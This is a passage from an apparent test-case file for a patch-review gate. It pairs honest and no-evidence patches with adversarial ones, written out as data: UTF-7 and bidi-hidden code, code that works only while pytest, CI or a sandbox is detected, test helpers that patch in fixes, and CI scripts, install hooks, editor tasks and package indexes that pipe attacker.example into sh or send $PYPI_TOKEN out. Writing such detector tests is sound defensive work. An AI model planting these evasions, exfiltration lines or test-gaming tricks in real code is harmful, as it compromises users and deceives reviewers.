            "tests/test_names.py": _PUBLIC_NAMES_ARE_CALLABLE,
        },
        verdict=Verdict.UNVERIFIED,
    ),
    Case(
        "parametrize-id-from-a-code-docstring",
        "evidence",
        changes={
            "calc/core.py": CORE.replace(
                "def mul(a, b):\n", 'def mul(a, b):\n    """Multiply."""\n'
            ),
            "tests/test_core.py": TESTS.replace(
                "from calc.core import mul, sub\n",
                "import pytest\n\nfrom calc.core import mul, sub\n",
            ).replace(
                "def test_mul():\n    assert mul(2, 3) == 6\n",
                '@pytest.mark.parametrize("want", [6], ids=[mul.__doc__ or "plain"])\n'
                "def test_mul(want):\n    assert mul(2, 3) == want\n",
            ),
        },
        verdict=Verdict.UNVERIFIED,
    ),
    Case(
        "test-functions-generated-from-a-code-list",
        "evidence",
        changes={
            "calc/core.py": CORE + '\n\nOPERATIONS = ("add", "mul", "sub", "neg")\n\n\n'
            "def neg(a):\n    return -a\n",
            "tests/test_generated.py": _GENERATED_FROM_CODE,
        },
        verdict=Verdict.UNVERIFIED,
    ),
    # Node's test runner names no file in its ids: a test absent from the old-code run
    # counted as failing whatever the reason; now only when a file of that run did not load.
    Case(
        "node-tests-generated-from-a-code-list",
        "evidence",
        changes={
            "calc.js": NODE_CORE.replace(
                "module.exports = { mul };",
                "function div(a, b) {\n  return a / b;\n}\n\n"
                "const OPERATIONS = ['mul', 'div'];\n\n"
                "module.exports = { mul, div, OPERATIONS };",
            ),
            "test/operations.test.js": _NODE_GENERATED_FROM_CODE,
        },
        base="node",
        verdict=Verdict.UNVERIFIED,
    ),
    # A limit, not a bypass closed: a new test that fails on the old code only because it
    # asks for what the patch adds (a constant here; the honest new-function test fails
    # the same way) is evidence, beside a wrong fix of the bug. The verdict names its
    # evidence tests for the reviewer (README, "what they do not").
    Case(
        "new-test-asserts-a-constant-the-patch-adds",
        "evidence",
        changes={
            "calc/core.py": CORE.replace("return a - b\n\n\ndef mul", "return b - a\n\n\ndef mul")
            + '\n\nVERSION = "0.2"\n',
            "tests/test_version.py": "from calc import core\n\n\n"
            'def test_version():\n    assert core.VERSION == "0.2"\n',
        },
    ),
    # honest patches
    Case(
        "honest-fix-with-new-test",
        "honest",
        changes={
            "calc/core.py": CORE.replace("a - b\n\n\ndef mul", "a + b\n\n\ndef mul"),
            "tests/test_core.py": TESTS.replace("import mul", "import add, mul")
            + "\n\ndef test_add():\n    assert add(2, 3) == 5\n",
        },
    ),
    Case(
        "honest-refactor-tests-unchanged",
        "honest",
        changes={
            "calc/core.py": "import operator\n\n\ndef add(a, b):\n    return a - b\n\n\n"
            "def mul(a, b):\n    return operator.mul(a, b)\n\n\n"
            "def sub(a, b):\n    return operator.sub(a, b)\n"
        },
        verdict=Verdict.UNVERIFIED,
    ),
    # No evidence (issue #31): nothing to refuse, but nothing shows the bug fixed.
    Case(
        "docs-only-patch-for-a-code-bug",
        "no-evidence",
        changes={"README.md": "# calc\n\n`add(a, b)` adds two numbers.\n"},
        verdict=Verdict.UNVERIFIED,
    ),
    Case(
        "new-test-already-passing-on-the-old-code",
        "no-evidence",
        changes={
            "tests/test_core.py": TESTS.replace("import mul", "import add, mul")
            + "\n\ndef test_add():\n    assert add(2, 0) == 2\n",
        },
        verdict=Verdict.UNVERIFIED,
    ),
    Case(
        "honest-new-function-with-tests",
        "honest",
        changes={
            "calc/core.py": CORE + "\n\ndef div(a, b):\n    return a / b\n",
            "tests/test_div.py": "from calc.core import div\n\n\n"
            "def test_div():\n    assert div(6, 3) == 2\n",
        },
    ),
    Case(
        "honest-dependency-in-pyproject",
        "honest",
        changes={
            "pyproject.toml": PYPROJECT.replace("dependencies = []", 'dependencies = ["attrs"]'),
            "calc/core.py": CORE + "\n\ndef neg(a):\n    return -a\n",
        },
        verdict=Verdict.UNVERIFIED,
    ),
    Case(
        "honest-go-fix-with-new-test",
        "honest",
        changes={
            "calc.go": GO_CORE + "\n// Add adds.\nfunc Add(a, b int) int { return a + b }\n",
            "calc_test.go": GO_TESTS
            + '\nfunc TestAdd(t *testing.T) {\n\tif Add(2, 3) != 5 {\n\t\tt.Fatal("add")\n\t}\n}\n',
        },
        base="go",
    ),
    Case(
        "honest-rust-refactor",
        "honest",
        changes={"src/lib.rs": RUST_CORE.replace("    a * b\n", "    b * a\n")},
        base="rust",
        verdict=Verdict.UNVERIFIED,
    ),
)


def make_base_repo(root: Path, case: Case | None = None) -> tuple[Path, str]:
    repo = root / "repo"
    return repo, make_git_repo(repo, BASES[case.base if case else "python"])


def case_config(case: Case, pytest_command: str) -> RepoConfig:
    """The Python cases name their pytest command; the others name none, so the gate
    detects it from the base tree as it does for a repository without .ribbit.yml."""
    return RepoConfig(test=pytest_command) if case.base == "python" else RepoConfig()


def case_patch(repo: Path, case: Case) -> str:
    """The case's patch against the repository's HEAD (the work tree is put back)."""
    if case.raw_patch is not None:
        return case.raw_patch
    for old, new in case.renames.items():
        (repo / new).parent.mkdir(parents=True, exist_ok=True)
        git(repo, "mv", old, new)
    # The staged renames travel with the changes into the one diff.
    return make_patch(repo, case.changes)


# Issue #31: files the interpreter reads differently from a reviewer, code that behaves
# well only while it is judged, test helpers that put the fix in for the tests only,
# files that run without anyone asking, and Semgrep evasions that need the resolved
# name. Each variant passes the tests at the base's yardstick, or hides what it does.
_UTF7_SYSTEM = "# coding: utf-7\n" + CORE + '# see +AAo-__import__("os").system("id")\n'
# In UTF-7 "+AAo-" is a newline and "+-" a plus: the comment hides a line that rebinds mul.
_UTF7_REBIND = "# coding: utf-7\n" + CORE + "# mul is exact +AAo-mul = lambda a, b: a +- b\n"
_UTF7_VIM = (
    "#!/usr/bin/env python3\n# vim: set fileencoding=utf-7 :\n"
    "# harmless +AAo-import os+ADs- os.system('curl -s attacker.example +AHw- sh')\n"
)
_RUNNER_MUL = "def mul(a, b):\n    return a * b if {probe} else a + b\n"


def _detecting(imports: str, probe: str) -> str:
    """calc/core.py with ``mul`` right only while ``probe`` holds."""
    broken_mul = "def mul(a, b):\n    return a * b\n"
    return imports + "\n\n" + CORE.replace(broken_mul, _RUNNER_MUL.format(probe=probe))


_REBIND = "import calc.core\n\ncalc.core.mul = lambda a, b: a * b\n"
_EXFIL = '#!/bin/sh\nset -e\ncurl -s -d "$PYPI_TOKEN" https://attacker.example/ >/dev/null\n'
_NODE_SCRIPTS = '"scripts": {"test": "node --test"'

ISSUE_31_CASES: tuple[Case, ...] = (
    # source the interpreter reads differently from a reviewer
    _case(
        "utf7-comment-runs-os-system",
        "hidden-source",
        {"source-encoding"},
        changes={"calc/core.py": _UTF7_SYSTEM},
    ),
    _case(
        "utf7-comment-rebinds-mul",
        "hidden-source",
        {"source-encoding"},
        changes={"calc/core.py": _UTF7_REBIND},
    ),
    _case(
        "vim-fileencoding-utf7-script",
        "hidden-source",
        {"source-encoding"},
        changes={"calc/tool.py": _UTF7_VIM},
    ),
    _case(
        "bidi-override-in-comment",
        "trojan-source",
        {"bidi-control"},
        changes={
            "calc/core.py": BROKEN.replace(
                "return a + b", "return a + b  # \u202e b * a nruter \u2066"
            )
        },
    ),
    _case(
        "bidi-isolate-in-string",
        "trojan-source",
        {"bidi-control"},
        changes={
            "calc/access.py": "def allowed(role):\n"
            '    return role != "user\u202e \u2066# admin\u2069\u2066"\n'
        },
    ),
    _case(
        "bidi-mark-in-docs",
        "trojan-source",
        {"bidi-control"},
        changes={"README.md": "# calc\n\nRun \u200fsh install.sh\u200f to set up.\n"},
    ),
    # code that is right only while it is judged
    _case(
        "pytest-in-sys-modules",
        "runner-detection",
        {"runner-detection"},
        changes={"calc/core.py": _detecting("import sys", '"pytest" in sys.modules')},
    ),
    _case(
        "sys-modules-get-through-alias",
        "runner-detection",
        {"runner-detection"},
        changes={"calc/core.py": _detecting("from sys import modules as m", 'm.get("_pytest")')},
    ),
    _case(
        "pytest-env-var-through-alias",
        "runner-detection",
        {"runner-detection"},
        changes={
            "calc/core.py": _detecting(
                "from os import environ as e", 'e.get("PYTEST_" + "CURRENT_TEST")'
            )
        },
    ),
    _case(
        "workspace-path-probe",
        "sandbox-detection",
        {"sandbox-detection"},
        changes={"calc/core.py": _detecting("import os.path", 'os.path.exists("/workspace")')},
    ),
    _case(
        "ci-env-var-probe",
        "sandbox-detection",
        {"sandbox-detection"},
        changes={"calc/core.py": _detecting("import os", 'os.getenv("CI") is not None')},
    ),
    _case(
        "hostname-probe",
        "sandbox-detection",
        {"sandbox-detection"},
        changes={"calc/core.py": _detecting("import socket", 'socket.gethostname() != "prod-1"')},
    ),
    # test helpers that put the fix in for the tests only
    _case(
        "tests-init-restores-mul",
        "test-helper-restores",
        {"test-rebinds-code"},
        changes={"calc/core.py": BROKEN, "tests/__init__.py": _REBIND},
    ),
    _case(
        "conftest-autouse-restores-mul",
        "test-helper-restores",
        {"test-rebinds-code", "test-config-changed"},
        changes={
            "calc/core.py": BROKEN,
            "tests/conftest.py": "import pytest\n\nimport calc.core\n\n\n"
            "@pytest.fixture(autouse=True)\ndef _exact():\n"
            "    calc.core.mul = lambda a, b: a * b\n",
        },
    ),
    _case(
        "test-helper-setattr-restores-mul",
        "test-helper-restores",
        {"test-rebinds-code"},
        changes={
            "calc/core.py": BROKEN,
            "tests/helpers.py": "from calc import core\n\n"
            "setattr(core, 'mul', lambda a, b: a * b)\n",
            "tests/test_core.py": "import tests.helpers  # noqa: F401\n" + TESTS,
        },
    ),
    # files CI or an install runs
    _case(
        "ci-script-sends-secret",
        "ci-script",
        {"ci-script"},
        changes={"ci/run-tests.sh": _EXFIL + "python3 -m pytest -q\n"},
    ),
    _case(
        "ci-script-skips-tests",
        "ci-script",
        {"ci-script"},
        changes={"calc/core.py": BROKEN, "ci/run-tests.sh": "#!/bin/sh\nexit 0\n"},
    ),
    _case(
        "ci-local-action-edited",
        "ci-script",
        {"ci-script"},
        changes={
            "ci/setup/action.yml": "runs:\n  using: composite\n  steps:\n"
            '    - run: curl -s -d "$PYPI_TOKEN" https://attacker.example/\n      shell: bash\n'
        },
    ),
    _case(
        "npm-postinstall-in-existing-package-json",
        "install-hook",
        {"install-hook"},
        changes={
            "package.json": NODE_PACKAGE.replace(
                _NODE_SCRIPTS, _NODE_SCRIPTS + ', "postinstall": "node calc.js"'
            )
        },
        base="node",
    ),
    _case(
        "npm-prepare-in-existing-package-json",
        "install-hook",
        {"install-hook"},
        changes={
            "package.json": NODE_PACKAGE.replace(
                _NODE_SCRIPTS, _NODE_SCRIPTS + ', "prepare": "curl -s attacker.example | sh"'
            )
        },
        base="node",
    ),
    _case(
        "npm-preinstall-in-new-package-json",
        "install-hook",
        {"install-hook"},
        changes={
            "web/package.json": '{"name": "web", "scripts": {"preinstall": "sh ../ci/x.sh"}}\n'
        },
    ),
    _case(
        "vscode-task-on-folder-open",
        "auto-run-file",
        {"auto-run-file"},
        changes={
            ".vscode/tasks.json": '{"version": "2.0.0", "tasks": [{"label": "setup", '
            '"command": "curl -s attacker.example | sh", "runOptions": '
            '{"runOn": "folderOpen"}}]}\n'
        },
    ),
    _case(
        "envrc-runs-on-cd",
        "auto-run-file",
        {"auto-run-file"},
        changes={".envrc": "curl -s attacker.example | sh\n"},
    ),
    _case(
        "husky-pre-commit-hook",
        "auto-run-file",
        {"auto-run-file"},
        changes={".husky/pre-commit": "#!/bin/sh\ncurl -s attacker.example | sh\n"},
    ),
    _case(
        "requirements-extra-index-url",
        "package-index",
        {"package-index"},
        changes={
            "requirements.txt": "--extra-index-url https://pypi.attacker.example/simple\n"
            "calc-helpers==1.0\n"
        },
    ),
    _case(
        "pip-conf-index",
        "package-index",
        {"package-index"},
        changes={"pip.conf": "[global]\nindex-url = https://pypi.attacker.example/simple\n"},
    ),
    _case(
        "pyproject-uv-index",
        "package-index",
        {"package-index"},
        changes={
            "pyproject.toml": PYPROJECT
            + '\n[[tool.uv.index]]\nurl = "https://pypi.attacker.example/simple"\n'
        },
    ),
    # Semgrep evasions that only the resolved name shows
    _case(
        "asyncio-subprocess-shell",
        "semgrep-evasion",
        {"ribbit.shell-injection.async-shell"},
        changes={
            "calc/shell.py": "import asyncio\n\n\nasync def run(cmd):\n"
            "    await asyncio.create_subprocess_shell(cmd)\n"
        },
    ),
    _case(
        "sh-dash-c-argv",
        "semgrep-evasion",
        {"ribbit.shell-injection.shell-argv"},
        changes={
            "calc/shell.py": "import subprocess\n\n\ndef run(cmd):\n"
            '    subprocess.run(["sh", "-c", cmd], check=True)\n'
        },
    ),
    _case(
        "shell-one-through-kwargs",
        "semgrep-evasion",
        {"ribbit.shell-injection.shell-through-kwargs"},
        changes={
            "calc/shell.py": "import subprocess\n\n\ndef run(cmd):\n"
            "    opts = dict(shell=1)\n    subprocess.run(cmd, **opts)\n"
        },
    ),
    _case(
        "eval-through-dict-get",
        "semgrep-evasion",
        {"ribbit.evasion.dynamic-dangerous-attribute"},
        changes={
            "calc/expr.py": "import builtins\n\n\ndef calc(expr):\n"
            '    return builtins.__dict__.get("eval")(expr)\n'
        },
    ),
    _case(
        "yaml-unsafe-loader-named-safe",
        "semgrep-evasion",
        {"ribbit.deserialization.yaml-load"},
        changes={
            "calc/config.py": "import yaml\nfrom yaml import UnsafeLoader as SafeLoader\n\n\n"
            "def load(text):\n    return yaml.load(text, Loader=SafeLoader)\n"
        },
    ),
    _case(
        "db-pass-literal",
        "semgrep-evasion",
        {"ribbit.hardcoded-credentials.literal-secret"},
        changes={"calc/settings.py": 'DB_PASS = "s3cr3t-Pa55word"\n'},
    ),
)
CASES = CASES + ISSUE_31_CASES
